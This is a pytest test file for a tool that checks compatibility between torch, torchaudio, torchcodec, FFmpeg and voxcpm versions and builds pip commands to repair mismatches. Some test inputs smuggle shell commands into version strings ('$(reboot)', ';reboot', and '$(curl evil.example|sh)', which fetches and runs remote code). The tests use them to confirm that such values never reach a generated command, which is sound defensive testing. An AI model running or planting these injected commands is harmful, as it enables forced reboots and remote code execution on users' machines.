"""Packages against torch and against each other, and the commands that mend them."""

from __future__ import annotations

import pytest
from judging import GIB, SUBJECTS, desktop, gate_with, machine_of, verdict_on
from msgspec.structs import replace

from vcf.catalogue.installed import build_of
from vcf.catalogue.model import Package
from vcf.catalogue.stack import stack
from vcf.catalogue.wheels import NoWheel, newest_wheel
from vcf.judge.audio import audio_command, audio_gates
from vcf.judge.checkup import checkup
from vcf.judge.context import Context
from vcf.judge.model import Gate
from vcf.judge.packages import (
    FFMPEG,
    codec_command,
    codec_gates,
    install_line,
    package_gates,
    reads_with_codec,
    triton_command,
)
from vcf.judge.subject import Subject
from vcf.judge.wheels import card_wheels
from vcf.machine.model import Cpu, Machine, Memory
from vcf.views.words import say

INDEX = "https://download.pytorch.org/whl"
FORCE = "pip install --force-reinstall --no-deps"
LINUX, WINDOWS, MAC, ARM = "linux-x86_64", "windows-x86_64", "macos-arm64", "linux-arm64"
RTX = "name: NVIDIA GeForce RTX 3060, vram: 12GiB, driver: '610.0'"


def subject(model: str, mode: str) -> Subject:
    return next(s for s in SUBJECTS if s.key == (model, mode))


VOXCPM = subject("voxcpm-0.5b", "cpu-fp32")


def context(platform: str = LINUX, **software: str | None) -> Context:
    """Of a machine with these packages."""
    system, _, arch = platform.partition("-")
    return Context(Machine(os=system, arch=arch, gpus=[], software=software))  # type: ignore[arg-type]


def audio(platform: str = LINUX, given: Subject = VOXCPM, **software: str | None) -> Gate | None:
    """What is said of torch and torchaudio; it is at most one thing."""
    found = list(audio_gates(given, context(platform, **software), None))
    assert len(found) <= 1
    for gate in found:
        assert gate.status == "fail"
        assert gate.source.startswith("https://")
        assert (gate.have, gate.need) == (
            f"torchaudio {software['torchaudio']}" if software["torchaudio"] else None,
            f"torch {software['torch']}",
        )  # fmt: skip
    return found[0] if found else None


def cure(gate: Gate) -> str | None:
    return str(gate.remedy.values["command"]) if gate.remedy is not None else None


# ---- torchaudio -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("platform", "torch", "torchaudio", "text", "command"),
    [
        # built for another torch: 2.10 and older go with their own only
        (LINUX, "2.13.0", "2.8.0+cu128", "audio-torch", f"2.11.0 --index-url {INDEX}/cu130"),
        (LINUX, "2.13.0+cpu", "2.8.0+cu128", "audio-torch", f"2.11.0 --index-url {INDEX}/cpu"),
        (LINUX, "2.8.0+cu128", "2.7.1+cu128", "audio-torch", f"2.8.0 --index-url {INDEX}/cu128"),
        (LINUX, "2.10.0", "2.9.1", "audio-torch", f"2.10.0 --index-url {INDEX}/cu128"),
        # newer than the torch
        (LINUX, "2.8.0+cu128", "2.11.0+cu128", "audio-torch", f"2.8.0 --index-url {INDEX}/cu128"),
        # a CUDA build beside a CPU build
        (LINUX, "2.13.0+cpu", "2.11.0+cu130", "audio-cuda-cpu", f"2.11.0 --index-url {INDEX}/cpu"),
        (LINUX, "2.8.0+cpu", "2.8.0+cu128", "audio-cuda-cpu", f"2.8.0 --index-url {INDEX}/cpu"),
        # PyPI's torch for Windows is a CPU build though it does not say so
        (WINDOWS, "2.13.0", "2.11.0+cu130", "audio-cuda-cpu", f"2.11.0 --index-url {INDEX}/cpu"),
        # two CUDA versions
        (LINUX, "2.13.0+cu130", "2.11.0+cu126", "audio-cuda", f"2.11.0 --index-url {INDEX}/cu130"),
        (LINUX, "2.13.0", "2.11.0+cu126", "audio-cuda", f"2.11.0 --index-url {INDEX}/cu130"),
        # PyPI's own build on Macs
        (MAC, "2.13.0", "2.9.0", "audio-torch", "2.11.0"),
        # arm64: PyPI's build there is the CUDA one
        (ARM, "2.13.0+cu130", "2.8.0", "audio-torch", f"2.11.0 --index-url {INDEX}/cu130"),
    ],
)  # fmt: skip
def test_pairs_that_fail(
    platform: str, torch: str, torchaudio: str, text: str, command: str
) -> None:
    gate = audio(platform, torch=torch, torchaudio=torchaudio)
    assert gate.text.id == text
    assert dict(gate.text.values) == {"torch": torch, "audio": torchaudio}
    assert cure(gate) == f"{FORCE} torchaudio=={command}"


@pytest.mark.parametrize(
    ("platform", "torch", "torchaudio"),
    [
        (LINUX, "2.15.0", "2.11.0+cu130"),
        (LINUX, "2.15.0+cu132", "2.11.0+cu130"),
        (ARM, "2.8.0+cu128", "2.9.0"),
        (LINUX, "9.9.9", "2.8.0"),
        (LINUX, "2.13.0+$(reboot)", "2.8.0"),
        (LINUX, "2.13.0+cpu;reboot", "2.8.0"),
        (LINUX, "main+cpu", "2.8.0+cu128"),
    ],
)
def test_where_no_torchaudio_fits_torch_is_exchanged_with_it(
    platform: str, torch: str, torchaudio: str
) -> None:
    """pip takes torch 2.15 for voxcpm today, and no torchaudio exists for its CUDA."""
    command = cure(audio(platform, torch=torch, torchaudio=torchaudio))
    assert command is not None and " torch==" in command and " torchaudio==" in command
    assert "reboot" not in command


def test_no_build_of_a_stranger_goes_into_a_command() -> None:
    assert build_of("2.13.0+cpu;reboot", "linux-x86_64") is None
    assert build_of("2.13.0+rocm7.2", "linux-x86_64") == "rocm7.2"
    assert "evil" not in codec_command("2.13.0+$(curl evil.example|sh)", "linux-x86_64")


def test_a_torchaudio_that_is_missing() -> None:
    assert audio(LINUX, torch="2.13.0+cpu", torchaudio=None) is None  # nor is voxcpm there
    gate = audio(LINUX, torch="2.13.0+cpu", torchaudio=None, voxcpm="2.0.3")
    assert (gate.text.id, gate.status) == ("audio-missing", "fail")
    assert cure(gate) == f"{FORCE} torchaudio==2.11.0 --index-url {INDEX}/cpu"


@pytest.mark.parametrize(
    ("platform", "torch", "torchaudio"),
    [
        (LINUX, "2.8.0+cu128", "2.8.0+cu128"),
        (LINUX, "2.8.0", "2.8.0+cu128"),
        (LINUX, "2.8.0+cu128", "2.8.0"),  # which build it is nobody says
        (LINUX, "2.7.1+cu126", "2.7.0+cu126"),  # of the same line
        (LINUX, "2.13.0+cu130", "2.11.0+cu130"),
        (LINUX, "2.13.0+cpu", "2.11.0"),
        (LINUX, "2.13.0+cpu", "2.11.0+cpu"),
        (LINUX, "2.11.0+rocm7.2", "2.11.0+rocm7.2"),
        (LINUX, "2.13.0+cu130", "2.11.0+cpu"),
        (LINUX, "9.9.9", "2.11.0+cu130"),  # an unknown build is not held against it
        (MAC, "2.13.0", "2.11.0"),
        (WINDOWS, "2.13.0", "2.11.0"),
        (LINUX, "main", "2.8.0"),
        (LINUX, "2.8.0", "strange"),
        (LINUX, None, "2.8.0"),
        (LINUX, "2.8.0", None),
    ],
)
def test_pairs_that_work_or_can_not_be_told(
    platform: str, torch: str | None, torchaudio: str | None
) -> None:
    assert audio(platform, torch=torch, torchaudio=torchaudio) is None


def test_only_modes_that_import_torchaudio_mind() -> None:
    wrong = {"torch": "2.13.0", "torchaudio": "2.8.0"}
    assert audio(**wrong) is not None
    for other in (("indextts-2", "cpu-fp32"), ("voxcpm-2", "gguf-cpu-q8"), ("voxcpm-2", "mlx")):
        assert audio(given=subject(*other), **wrong) is None


@pytest.mark.parametrize(
    ("torch", "build", "platform", "command"),
    [
        ("2.13.0+cpu", "cpu", LINUX, f"2.11.0 --index-url {INDEX}/cpu"),
        ("2.8.0", "cu128", LINUX, f"2.8.0 --index-url {INDEX}/cu128"),
        ("2.0.0", "cpu", LINUX, f"2.0.1 --index-url {INDEX}/cpu"),  # its own number
        ("2.13.0", "mps", MAC, "2.11.0"),
        ("2.15.0", "cu132", LINUX, None),
        ("2.13.0", "rocm7.2", LINUX, None),
        ("2.8.0", "cu128", ARM, None),
        ("2.13.0", None, LINUX, None),
    ],
)
def test_the_command_for_torchaudio(
    torch: str, build: str | None, platform: str, command: str | None
) -> None:
    made = audio_command(torch, build, platform)
    assert made == (None if command is None else f"{FORCE} torchaudio=={command}")


@pytest.mark.parametrize(
    ("version", "platform", "build"),
    [
        ("2.13.0+cpu", LINUX, "cpu"), ("2.13.0", LINUX, "cu130"), ("2.13.0", WINDOWS, "cpu"),
        ("2.13.0", MAC, "mps"), ("2.13.0", "macos-x86_64", None), ("2.13", LINUX, "cu130"),
        ("2.15.0", LINUX, "cu132"), ("9.9.9", LINUX, None), ("main", LINUX, None),
        ("main+cu126", LINUX, "cu126"),
    ],
)  # fmt: skip
def test_builds(version: str, platform: str, build: str | None) -> None:
    assert build_of(version, platform) == build


# ---- versions of packages ---------------------------------------------------------------------


def versions(have: str | None, *wanted: Package) -> list[Gate]:
    other = replace(VOXCPM, needs=replace(VOXCPM.needs, packages=list(wanted)))
    return list(package_gates(other, context(voxcpm=have), None))


@pytest.mark.parametrize(
    ("have", "status", "text", "need", "command"),
    [
        ("1.0.2", "fail", "package-version", "≥ 1.5", "pip install -U voxcpm"),
        ("3.0", "fail", "package-version", "< 3.0", 'pip install "voxcpm<3.0"'),
        ("3.1.4", "fail", "package-version", "< 3.0", 'pip install "voxcpm<3.0"'),
        ("1.9", "warn", "package-advised", "≥ 2.0.3", "pip install -U voxcpm"),
    ],
)
def test_versions_that_do_not_do(
    have: str, status: str, text: str, need: str, command: str
) -> None:
    wanted = Package(name="voxcpm", min="1.5", below="3.0", advised="2.0.3")
    (gate,) = versions(have, wanted)
    assert (gate.status, gate.text.id, gate.have, gate.need) == (status, text, have, need)
    assert gate.text.values["name"] == "voxcpm"
    assert cure(gate) == command
    assert gate.source == VOXCPM.needs.source


def test_versions_that_do() -> None:
    wanted = Package(name="voxcpm", min="1.5", below="3.0", advised="2.0.3")
    for have in ("2.0.3", "2.9.9+local", None, "rubbish"):
        assert versions(have, wanted) == []
    assert versions("0.1", Package(name="voxcpm")) == []
    assert versions("0.1") == []


# ---- Metal ------------------------------------------------------------------------------------

MACBOOK = """
os: macos
os_version: macOS 15.1
arch: arm64
cpu: {model: Apple M4, cores: 10}
memory: {total: 32GiB}
gpus: [{name: Apple M4}]
disk: {free: 200GB}
"""


def on_metal(version: str, mode: str) -> list[Gate]:
    """What is said of a voxcpm on a Mac's GPU, or beside it."""
    machine = machine_of(f'{MACBOOK}software: {{python: "3.11", voxcpm: "{version}"}}')
    found = Context(machine)
    card = found.cards[0] if mode.startswith("gpu") else None
    gates = package_gates(subject("voxcpm-2", mode), found, card)
    return [gate for gate in gates if gate.text.id == "package-metal"]


@pytest.mark.parametrize("mode", ["gpu-fp32", "gpu-bf16", "gpu-fp16"])
def test_a_voxcpm_that_gives_noise_on_metal_is_refused(mode: str) -> None:
    (gate,) = on_metal("2.0.2", mode)
    assert (gate.status, gate.have, gate.need) == ("fail", "2.0.2", "≥ 2.0.3")
    assert cure(gate) == "pip install -U voxcpm"
    assert gate.source == "https://github.com/OpenBMB/VoxCPM/issues/301"
    machine = machine_of(f'{MACBOOK}software: {{python: "3.11", voxcpm: "2.0.2"}}')
    judged = verdict_on(machine, "voxcpm-2", mode)
    assert (judged.verdict, judged.limit, judged.recipe.install) == ("no", "software", ())
    said = gate_with(judged, "package-metal")
    for lang in ("en", "zh"):
        assert "2.0.3" in say(said.text, lang) and "{" not in say(said.text, lang)


@pytest.mark.parametrize("version", ["2.0.3", "2.1", "rubbish"])
def test_a_voxcpm_that_widens_for_metal_is_not(version: str) -> None:
    assert on_metal(version, "gpu-bf16") == []


def test_noise_is_of_metal_alone() -> None:
    assert on_metal("2.0.2", "cpu-fp32") == []
    machine = desktop(RTX, software='python: "3.11", voxcpm: "2.0.2"')
    judged = verdict_on(machine, "voxcpm-2", "gpu-bf16")
    assert judged.verdict in ("good", "slow")
    # its other packages have no such release
    context_ = Context(machine_of(f'{MACBOOK}software: {{mlx-audio: "0.4.4"}}'))
    assert list(package_gates(subject("voxcpm-2", "mlx"), context_, context_.cards[0])) == []


# ---- torchcodec and FFmpeg --------------------------------------------------------------------


def codec(platform: str = LINUX, given: Subject = VOXCPM, **software: str | None) -> list[Gate]:
    found = list(codec_gates(given, context(platform, **software), None))
    for gate in found:
        assert gate.status == "warn"  # all but cloning works
        assert gate.source.startswith("https://github.com/meta-pytorch/torchcodec")
    return found


NEW = {"torch": "2.13.0+cu130", "torchaudio": "2.11.0+cu130"}


def test_torchcodec_is_missing() -> None:
    (gate,) = codec(**NEW, ffmpeg=None)
    assert (gate.text.id, dict(gate.text.values)) == ("codec-missing", {"audio": "2.11.0+cu130"})
    assert cure(gate) == f'{FORCE} "torchcodec==0.16.*"'


@pytest.mark.parametrize(
    "software",
    [
        {"torch": "2.8.0", "torchaudio": "2.8.0"},  # still reads by itself
        {"torch": "2.13.0", "torchaudio": None},
        {"torch": None, "torchaudio": "2.11.0"},
        {"torch": "2.13.0", "torchaudio": "strange"},
        {**NEW, "torchcodec": "0.16.0+cu130", "ffmpeg": "8.0"},
        {**NEW, "torchcodec": "0.16.0", "ffmpeg": "7.1.1"},
        {**NEW, "torchcodec": "0.16.0", "ffmpeg": "installed"},
        {**NEW, "torchcodec": "0.16.0"},  # of FFmpeg nothing is known
        {**NEW, "torchcodec": "9.9.9", "ffmpeg": "8.0"},
        {**NEW, "torchcodec": "strange", "ffmpeg": "8.0"},
        {"torch": "9.9.9", "torchaudio": "2.11.0", "torchcodec": "0.16.0+cu130"},
    ],
)
def test_clips_can_be_read(software: dict[str, str | None]) -> None:
    assert codec(**software) == []


@pytest.mark.parametrize(
    ("torch", "torchcodec", "text", "command"),
    [
        ("2.13.0+cu130", "0.9.1", "codec-torch", '"torchcodec==0.16.*"'),
        ("2.9.0+cu128", "0.16.0+cu128", "codec-torch", '"torchcodec==0.9.*"'),
        ("2.13.0+cpu", "0.16.0+cu130", "codec-build",
         f'"torchcodec==0.16.*" --index-url {INDEX}/cpu'),
        ("2.13.0+cu126", "0.16.0+cu130", "codec-build",
         f'"torchcodec==0.16.*" --index-url {INDEX}/cu126'),
    ],
)  # fmt: skip
def test_torchcodec_for_another_torch(torch: str, torchcodec: str, text: str, command: str) -> None:
    gates = codec(torch=torch, torchaudio="2.11.0", torchcodec=torchcodec, ffmpeg="7.1")
    assert [gate.text.id for gate in gates] == [text]
    assert dict(gates[0].text.values) == {"codec": torchcodec, "torch": torch}
    assert cure(gates[0]) == f"{FORCE} {command}"


def test_ffmpeg_is_missing() -> None:
    for platform, system in ((LINUX, "linux"), (WINDOWS, "windows"), (MAC, "macos")):
        (gate,) = codec(platform, torch="2.13.0", torchaudio="2.11.0", torchcodec="0.16.0",
                        ffmpeg=None)  # fmt: skip
        assert gate.text.id == "codec-ffmpeg"
        assert cure(gate) == FFMPEG[system]
    both = codec(torch="2.13.0+cpu", torchaudio="2.11.0", torchcodec="0.16.0+cu130", ffmpeg=None)
    assert [gate.text.id for gate in both] == ["codec-build", "codec-ffmpeg"]


def test_ffmpeg_that_could_not_be_looked_for() -> None:
    machine = replace(
        context(**NEW, torchcodec="0.16.0", ffmpeg=None).machine,
        unknown={"software.ffmpeg": "which: no answer"},
    )
    assert list(codec_gates(VOXCPM, Context(machine), None)) == []


@pytest.mark.parametrize(("ffmpeg", "fits"), [("3.4", False), ("4.4", True), ("8.0", False)])
def test_ffmpeg_of_the_wrong_age(ffmpeg: str, fits: bool) -> None:
    row = next(row for row in stack().torchcodec if row.release == "0.7")
    assert (row.ffmpeg_min, row.ffmpeg_max) == (4, 7)
    gates = codec(torch="2.8.0", torchaudio="2.9.0", torchcodec="0.7.0", ffmpeg=ffmpeg)
    assert [gate.text.id for gate in gates] == ([] if fits else ["codec-ffmpeg-version"])
    for gate in gates:
        assert dict(gate.text.values) == {"codec": "0.7.0", "have": ffmpeg, "need": "4–7"}
        assert (gate.have, gate.need) == (f"FFmpeg {ffmpeg}", "FFmpeg 4–7")


def test_only_modes_that_read_clips_so_mind() -> None:
    for model, mode in (("voxcpm-2", "gguf-cpu-q8"), ("indextts-2", "cpu-fp32")):
        other = subject(model, mode)
        assert not reads_with_codec(other)
        assert codec(given=other, **NEW) == []
    assert reads_with_codec(VOXCPM)


@pytest.mark.parametrize(
    ("torch", "platform", "command"),
    [
        ("2.13.0", LINUX, '"torchcodec==0.16.*"'),
        ("2.13.0", WINDOWS, '"torchcodec==0.16.*"'),
        ("2.13.0+cu130", WINDOWS, '"torchcodec==0.16.*"'),  # no builds by CUDA there
        ("2.13.0", MAC, '"torchcodec==0.16.*"'),
        ("2.13.0+cpu", LINUX, f'"torchcodec==0.16.*" --index-url {INDEX}/cpu'),
        ("9.9.9+cu130", LINUX, f"torchcodec --index-url {INDEX}/cu130"),
        ("9.9.9", LINUX, "torchcodec"),
        ("main", LINUX, "torchcodec"),
        ("2.13.0", "macos-x86_64", "torchcodec"),
    ],
)
def test_the_command_for_torchcodec(torch: str, platform: str, command: str) -> None:
    assert codec_command(torch, platform) == f"{FORCE} {command}"


def test_a_torch_from_an_index_brings_its_torchcodec() -> None:
    for platform, cuda, brings in ((LINUX, "cu126", True), (WINDOWS, "cu126", False)):
        choice = newest_wheel(vendor="nvidia", platform=platform, cc="8.6", only_variant=cuda,
                              torchaudio=True)  # fmt: skip
        assert not isinstance(choice, NoWheel)
        line = install_line(choice, VOXCPM, context(platform))
        assert ("torchcodec==" in line) is brings
        assert line.endswith(f" --index-url {INDEX}/{cuda}")
        assert install_line(choice, subject("indextts-2", "cpu-fp32"), context(platform)) == (
            choice.install
        )
    plain = newest_wheel(vendor="apple", platform=MAC)
    assert install_line(plain, VOXCPM, context(MAC)) == plain.install


@pytest.mark.parametrize(
    ("torch", "command"),
    [
        ("2.8.0+cu128", 'pip install "triton-windows>=3.4,<3.5"'),
        ("2.10.0+cu128", 'pip install "triton-windows>=3.6,<3.7"'),
        ("2.15.0+cu132", "pip install triton-windows"),  # nobody states the pair
        ("2.8.0+cpu", "pip install triton-windows"),
        ("", "pip install triton-windows"),
        ("main", "pip install triton-windows"),
    ],
)
def test_the_command_for_triton(torch: str, command: str) -> None:
    assert triton_command(torch, WINDOWS) == command


# ---- the wheels that fit --------------------------------------------------------------------


def test_the_wheels_for_a_card() -> None:
    (wheels,) = card_wheels(Context(desktop(RTX, software='python: "3.11.7"')))
    assert (wheels.gpu, wheels.target) == ("NVIDIA GeForce RTX 3060", "8.6")
    assert (wheels.why_not, wheels.driver_last) == (None, None)
    version, build = wheels.torch.split("+")
    assert f"torch=={version}" in wheels.install
    assert any(build in one for one in wheels.builds)
    assert wheels.torchaudio is not None  # what is told to be installed can be used
    assert len(wheels.builds) == len(set(wheels.builds)) > 5
    assert wheels.driver_min
    assert wheels.sources
    assert (wheels.python_min, wheels.python_max) < ("3.9", "3.99")


def test_the_wheels_for_an_old_card() -> None:
    (wheels,) = card_wheels(Context(desktop("name: NVIDIA GeForce GTX 960M, vram: 4GiB")))
    assert (wheels.target, wheels.driver_last) == ("5.0", "R580")
    assert wheels.torch.endswith("+cu126")
    assert wheels.index_url == f"{INDEX}/cu126"
    assert all(build.partition("+")[2] <= "cu126" for build in wheels.builds[:3])


def test_no_wheel() -> None:
    (wheels,) = card_wheels(Context(desktop("name: Mystery 9000, vendor: nvidia")))
    assert (wheels.gpu, wheels.target, wheels.why_not) == ("Mystery 9000", None, "unknown_gpu")
    assert (wheels.torch, wheels.install, wheels.torchaudio) == (None, None, None)
    assert (wheels.builds, wheels.sources) == ((), ())
    (amd,) = card_wheels(Context(desktop("name: AMD Radeon RX 7900 XTX, vram: 24GiB")))
    assert (amd.target, amd.builds, amd.driver_min) == ("gfx1100", (), None)
    assert "rocm" in amd.torch


def test_the_wheels_for_the_cpu() -> None:
    for machine in (desktop(""), replace(desktop(""), gpus=None)):
        (wheels,) = card_wheels(Context(machine))
        assert (wheels.gpu, wheels.target, wheels.builds) == (None, None, ())
        assert wheels.torch.endswith("+cpu")


def test_equal_cards_are_told_once() -> None:
    machine = desktop(RTX)
    assert len(card_wheels(Context(replace(machine, gpus=machine.gpus * 3)))) == 1


# ---- check and doctor say the same ------------------------------------------------------------

WRONG = {
    "audio-torch": 'torch: 2.13.0+cu130, torchaudio: 2.8.0+cu128, voxcpm: "2.0.3"',
    "audio-cuda-cpu": 'torch: 2.13.0+cpu, torchaudio: 2.11.0+cu130, voxcpm: "2.0.3"',
    "audio-cuda": 'torch: 2.13.0+cu130, torchaudio: 2.11.0+cu126, voxcpm: "2.0.3"',
    "package-version": 'torch: 2.13.0+cu130, torchaudio: 2.11.0+cu130, voxcpm: "1.0.0"',
}


@pytest.mark.parametrize("text", WRONG)
def test_check_and_doctor_agree(text: str) -> None:
    machine = desktop(RTX, software=f'python: "3.11.7", {WRONG[text]}')
    mode = "gpu-bf16"
    if text == "audio-cuda-cpu":  # with a GPU there, the CPU build would be replaced first
        machine, mode = replace(machine, gpus=[]), "cpu-fp32"
    asked = [subject("voxcpm-0.5b", mode), subject("voxcpm-0.5b", "cpu-bf16")]
    (found,) = [f for f in checkup(machine, asked).findings if f.id == text]
    assert found.level == "stops"
    assert set(found.modes) == {s.name for s in asked}
    judged = verdict_on(machine, "voxcpm-0.5b", mode)
    assert (judged.verdict, judged.limit) == ("no", "software")
    for lang in ("en", "zh"):
        assert say(gate_with(judged, text).text, lang) == say(found.text, lang)
    assert cure(gate_with(judged, text)) == found.command


def test_of_several_needs_the_highest_is_told() -> None:
    """One upgrade is enough for every mode."""
    machine = desktop(RTX, software=f'python: "3.11.7", {WRONG["package-version"]}')
    (found,) = [f for f in checkup(machine, SUBJECTS).findings if f.id == "package-version"]
    needs = [gate_with(verdict_on(machine, model, "gpu-bf16"), "package-version").need
             for model in ("voxcpm-0.5b", "voxcpm-2")]  # fmt: skip
    assert needs == ["≥ 1.0.3", "≥ 2.0.0"]
    assert found.text.values["need"] == "≥ 2.0.0"
    assert {"voxcpm-0.5b:gpu-bf16", "voxcpm-2:gpu-bf16"} <= set(found.modes)


def test_what_is_installed_on_a_mac_is_judged_too() -> None:
    mac = replace(
        machine_of("os: macos\nos_version: macOS 15.1\ncpu: {model: Apple M2, cores: 8}\n"
                   "gpus: [{name: Apple M2}]\ndisk: {free: 200GB}"),
        cpu=Cpu(model="Apple M2", usable_cores=8), memory=Memory(total_bytes=32 * GIB),
        software={"python": "3.11.7", "torch": "2.13.0", "torchaudio": "2.9.0", "voxcpm": "2.0.3"},
    )  # fmt: skip
    judged = verdict_on(mac, "voxcpm-2", "gpu-bf16")
    assert (judged.verdict, judged.limit) == ("no", "software")
    assert cure(gate_with(judged, "audio-torch")) == f"{FORCE} torchaudio==2.11.0"


def test_versions_that_can_not_be_read_are_left_to_the_torch_gate() -> None:
    assert audio(LINUX, torch="main", torchaudio="2.8.0") is None
    assert audio(LINUX, torch="2.8.0", torchaudio="nightly") is None
